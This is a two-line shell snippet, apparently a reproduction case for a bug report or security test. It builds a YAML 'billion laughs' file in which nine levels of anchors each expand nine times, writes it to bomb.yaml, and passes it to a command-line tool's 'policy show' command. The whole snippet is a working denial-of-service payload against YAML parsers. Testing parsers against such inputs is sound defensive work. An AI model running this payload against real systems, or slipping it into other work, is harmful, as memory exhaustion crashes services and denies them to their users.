{ echo 'a: &a [x, x, x, x, x, x, x, x, x]'; p=a; for n in b c d e f g h i; do echo "$n: &$n [*$p, *$p, *$p, *$p, *$p, *$p, *$p, *$p, *$p]"; p=$n; done; } > bomb.yaml
abridge policy show -p ./bomb.yaml
